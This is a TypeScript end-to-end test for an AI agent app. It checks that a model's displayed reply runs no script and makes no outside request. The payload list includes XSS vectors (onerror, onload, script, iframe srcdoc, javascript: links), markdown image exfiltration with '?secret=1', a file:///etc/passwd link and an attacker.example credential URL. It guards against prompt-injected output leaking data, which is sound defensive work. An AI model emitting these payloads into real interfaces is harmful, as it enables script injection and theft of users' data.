import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { expect, test } from './launch.ts';

// Text of a model, which may repeat what a tool or a page told it, is shown (E10): no script of it runs, and nothing it
// holds makes a request, for an address can carry words out.

const attacks = (base: string): string[] => [
  `<img src=x onerror="document.documentElement.dataset.attack='onerror'">`,
  `<svg onload="document.documentElement.dataset.attack='svg'"></svg>`,
  `<script>document.documentElement.dataset.attack='script'</script>`,
  `<iframe srcdoc="<script>parent.document.documentElement.dataset.attack='iframe'</script>"></iframe>`,
  `<style>body { background: url(${base}/style) }</style>`,
  `<form action="${base}/form"><input autofocus onfocus="document.documentElement.dataset.attack='focus'"></form>`,
  `<a href="${base}/ping" ping="${base}/ping">ping</a>`,
  `<link rel="stylesheet" href="${base}/link"><meta http-equiv="refresh" content="0;url=${base}/refresh">`,
  `![picture](${base}/picture?secret=1)`,
  `![reference][ref]\n\n[ref]: ${base}/reference`,
  `![svg](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${base}/inner"/></svg>`).toString('base64')})`,
  `[script](javascript:document.documentElement.dataset.attack='link')`,
  `[data](data:text/html,<script>1</script>)`,
  `[file](file:///etc/passwd)`,
  `[password](https://user:word@attacker.example/)`,
  `<${base}/autolink>`,
  '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '```echarts\n{"formatter": "new Function(\'document.documentElement.dataset.attack=1\')()"}\n```',
];

test('E10: text of a model runs nothing and asks for nothing', async ({ app, host }) => {
  const { page } = app;
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const lines = attacks(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
  const agent = path.join(host.folder, 'talker.agent.json');
  const script = path.join(host.folder, 'talker.jsonl');
  writeFileSync(agent, JSON.stringify({ name: 'talker', instructions: 'Talk.', tools: [{ tool: 'calculator' }] }));
  writeFileSync(script, `${JSON.stringify({ text: [...lines, 'That was the last line.'].join('\n\n') })}\n`);
  const ran = await host.warrant([
    'run',
    '--agent',
    agent,
    '--accept',
    '--model',
    `scripted:${script}`,
    '--output',
    'json',
    'talk',
  ]);
  expect(ran.code, ran.stderr).toBe(0);
  const { run } = JSON.parse(ran.stdout) as { run: string };

  const outside: string[] = [];
  page.on('request', (request) => {
    if (!/^(app:|data:|blob:)/.test(request.url()) && new URL(request.url()).origin !== new URL(page.url()).origin)
      outside.push(request.url());
  });
  await page.evaluate((id) => {
    location.hash = `#/runs/${id}`;
  }, run);
  await expect(page.getByText('That was the last line.', { exact: true })).toBeVisible();
  await page.waitForTimeout(500);

  expect(await page.evaluate(() => document.documentElement.dataset.attack)).toBeUndefined();
  expect(
    await page.locator('main').locator('iframe, object, embed, form, base, meta, link, style, script').count(),
  ).toBe(0);
  expect(await page.locator('main img').count()).toBe(0);
  expect(
    await page
      .locator('main a[href]')
      .evaluateAll((links) =>
        links
          .map((link) => (link as HTMLAnchorElement).protocol)
          .filter((protocol) => !/^(app|https?):$/.test(protocol)),
      ),
  ).toEqual([]);
  expect({ requests, outside }).toEqual({ requests: [], outside: [] });
  server.close();
});
